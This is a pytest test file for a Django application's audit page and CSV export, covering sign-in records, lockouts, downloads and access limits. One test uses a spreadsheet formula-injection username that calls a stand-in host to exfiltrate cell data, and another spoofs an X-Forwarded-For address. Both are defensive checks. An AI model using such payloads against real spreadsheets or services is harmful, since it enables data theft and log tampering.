"""Who signed in (or tried to), ran the optimiser, downloaded a grant report or a statement, and computed chargeback
statements: each is a record on the audit page and in its CSV export, for admins and finance only, as the page's
other records. Everything here is done as a user does it (the sign-in form, the pages, the API), then read back
from /audit/ as an admin."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from tests.helpers import login

pytestmark = pytest.mark.django_db


def _csv(client: Client, query: str) -> list[dict[str, str]]:
    response = client.get(f"/audit/export.csv?{query}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_sign_ins_and_failed_sign_ins_through_the_form_are_on_the_audit_page(planner_user: Any,
                                                                              admin_user: Any) -> None:
    visitor = Client(REMOTE_ADDR="10.9.8.7")
    wrong = visitor.post("/accounts/login/", {"username": "pat-planner", "password": "not-my-password"})
    assert wrong.status_code == 200  # the form again, with its error
    visitor.post("/accounts/login/", {"username": "nobody-here", "password": "guess"})
    right = visitor.post("/accounts/login/", {"username": "pat-planner", "password": "pw-pat-planner"})
    assert right.status_code == 302

    admin = login(Client(), admin_user)
    page = admin.get("/audit/?kind=sign-in&actor=pat-planner").content.decode()
    assert "1 record." in page and "signed in" in page and "10.9.8.7" in page and "how: password" in page
    failed = _csv(admin, "kind=failed+sign-in")
    assert [(r["actor"], r["address"], r["object"], r["action"], r["field"], r["after"])
            for r in failed if r["field"] == "username"] == [
        ("not signed in", "10.9.8.7", "nobody-here", "sign-in failed", "username", "nobody-here"),
        ("not signed in", "10.9.8.7", "pat-planner", "sign-in failed", "username", "pat-planner")]
    assert {r["after"] for r in failed if r["field"] == "account"} == {"exists", "no such user"}
    everything = b"".join(admin.get("/audit/export.csv").streaming_content).decode()
    assert "not-my-password" not in everything and "guess" not in everything  # never the password tried
    # a sign-in is not a change of user access
    assert not any(r["action"] == "signed in" for r in _csv(admin, "kind=user+access"))
    assert "<td>sign-in</td>" not in admin.get("/audit/?kind=user+access").content.decode()
    assert "<td>sign-in</td>" in admin.get("/audit/").content.decode()


def test_attempts_refused_while_locked_out_are_not_recorded_as_wrong_passwords(planner_user: Any, admin_user: Any,
                                                                               settings: Any) -> None:
    """Once the account is locked, axes refuses before any password is checked: the right password typed then is a
    refused sign-in, not a failed one, or the audit trail would say the owner's own password was wrong."""
    visitor = Client(REMOTE_ADDR="10.9.8.7")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        visitor.post("/accounts/login/", {"username": "pat-planner", "password": "wrong"})
    locked = Client(REMOTE_ADDR="10.1.1.1").post("/accounts/login/",
                                                  {"username": "pat-planner", "password": "pw-pat-planner"})
    assert locked.status_code == 429
    admin = login(Client(), admin_user)
    failed = [r for r in _csv(admin, "kind=failed+sign-in") if r["field"] == "username"]
    assert [(r["address"], r["action"]) for r in failed] == [("10.9.8.7", "sign-in failed")] * 5  # the limit's
    refused = _csv(admin, "kind=refused+sign-in")
    assert {(r["address"], r["object"], r["action"]) for r in refused} == {("10.1.1.1", "pat-planner",
                                                                           "sign-in refused")}
    assert any("password was not checked" in r["after"] for r in refused)
    assert "sign-in refused" in admin.get("/audit/?action=sign-in+refused").content.decode()


def test_an_optimiser_run_started_on_the_design_page_names_who_and_which_design(planner_user: Any,
                                                                                 admin_user: Any) -> None:
    from tests.planner.designs_data import load_catalog_and_designs

    narrow = load_catalog_and_designs()["narrow"]
    started = login(Client(), planner_user).post(f"/designs/{narrow.pk}/optimize/", {"time_limit_s": "5"})
    assert started.status_code == 302
    rows = _csv(login(Client(), admin_user), "kind=optimiser+run")
    assert {(r["actor"], r["object"], r["action"], r["field"], r["after"]) for r in rows} >= {
        ("pat-planner", str(narrow), "started", "what", "lowest-cost plan")}
    assert any(r["field"] == "run" and r["after"] for r in rows)


@pytest.fixture
def statements(tmp_path: Path, departments: dict[str, Any], planner_user: Any) -> Any:
    from forecasts.models import Statement
    from tests.forecasts.chargeback_data import minerva_plan, small_site

    site = small_site(tmp_path)
    minerva_plan()
    computed = login(Client(), planner_user).post("/api/v1/chargeback/statements/compute/",
                                                  {"month": f"{site['month']:%Y-%m}", "reason": "month end"},
                                                  content_type="application/json")
    assert computed.status_code == 201, computed.content
    return {code: Statement.objects.get(department__code=code, is_current=True) for code in ("ggs", "scb")}


def test_statement_computations_and_downloads_are_recorded_and_only_admins_and_finance_read_them(
        statements: dict[str, Any], genomics_viewer: Any, admin_user: Any, finance_user: Any) -> None:
    viewer = login(Client(), genomics_viewer)
    ggs = statements["ggs"]
    assert viewer.get(f"/chargeback/statements/{ggs.pk}.csv").status_code == 200
    assert viewer.get(f"/chargeback/statements/{ggs.pk}.pdf").status_code == 200
    assert viewer.get(f"/chargeback/statements/{statements['scb'].pk}.csv").status_code in (403, 404)
    # the page is for admins and finance: a department viewer reads no one's records, their own neither
    assert (viewer.get("/audit/").status_code, viewer.get("/audit/export.csv").status_code) == (403, 403)

    for reader in (admin_user, finance_user):
        rows = _csv(login(Client(), reader), "kind=statement+download")
        got = {(r["actor"], r["object"], r["action"], r["field"], r["after"]) for r in rows}
        assert {("gina-genomics", str(ggs), "downloaded", "format", "csv"),
                ("gina-genomics", str(ggs), "downloaded", "format", "pdf")} <= got
        assert not any(r["object"] == str(statements["scb"]) for r in rows)  # refused: nothing downloaded
        computed = {r["field"]: r["after"] for r in _csv(login(Client(), reader), "kind=statement+computation")}
        assert computed["month"] == "2024-03" and computed["statements"] == "2" and computed["reason"] == "month end"
    page = login(Client(), admin_user).get("/audit/?kind=statement+computation").content.decode()
    assert "pat-planner" in page and "2024-03 statements" in page and "computed" in page


def test_a_grant_report_download_is_recorded(tmp_path: Path, departments: dict[str, Any], planner_user: Any,
                                             admin_user: Any) -> None:
    from planner.reports.services import report_create, report_generate
    from tests.planner.reports_data import report_inputs

    data = report_inputs(tmp_path, departments, with_forecast=False)
    report = report_generate(report_create(design=data["narrow"], cluster=data["cluster"], enqueue=False).pk)
    got = login(Client(), planner_user).get(f"/reports/{report.pk}/download/pdf/?download=1")
    assert got.status_code == 200
    rows = _csv(login(Client(), admin_user), "kind=report+download")
    assert {(r["actor"], r["object"], r["field"], r["after"]) for r in rows} >= {
        ("pat-planner", str(report), "format", "pdf"), ("pat-planner", str(report), "as", "file")}
    # the action filter finds downloads of either kind
    assert "report download" in login(Client(), admin_user).get("/audit/?action=downloaded").content.decode()


def test_a_username_typed_as_a_formula_is_exported_as_text(admin_user: Any) -> None:
    """Anyone can type into the sign-in form, and finance opens the export in a spreadsheet."""
    Client().post("/accounts/login/", {"username": '=HYPERLINK("http://x.example/?"&A1)', "password": "x"})
    rows = _csv(login(Client(), admin_user), "kind=failed+sign-in")
    assert {r["object"] for r in rows} == {"'=HYPERLINK(\"http://x.example/?\"&A1)"}


def test_the_address_recorded_is_not_the_one_a_client_claims(admin_user: Any, settings: Any) -> None:
    """X-Forwarded-For is what the client sent unless a proxy of ours appended to it (BEHIND_TLS_PROXY): a guesser
    must not be able to write someone else's address into the record of their failed sign-ins."""
    Client(REMOTE_ADDR="10.9.8.7").post("/accounts/login/", {"username": "pat", "password": "x"},
                                        HTTP_X_FORWARDED_FOR="192.0.2.66")
    rows = _csv(login(Client(), admin_user), "kind=failed+sign-in")
    assert {r["address"] for r in rows} == {"10.9.8.7"}
    # behind our TLS proxy, the address it appended last (what the throttling counts by), not the client's claim
    settings.BEHIND_TLS_PROXY = True
    Client(REMOTE_ADDR="127.0.0.1").post("/accounts/login/", {"username": "pat", "password": "y"},
                                         HTTP_X_FORWARDED_FOR="192.0.2.66, 198.51.100.7")
    rows = _csv(login(Client(), admin_user), "kind=failed+sign-in")
    assert {r["address"] for r in rows} == {"10.9.8.7", "198.51.100.7"}
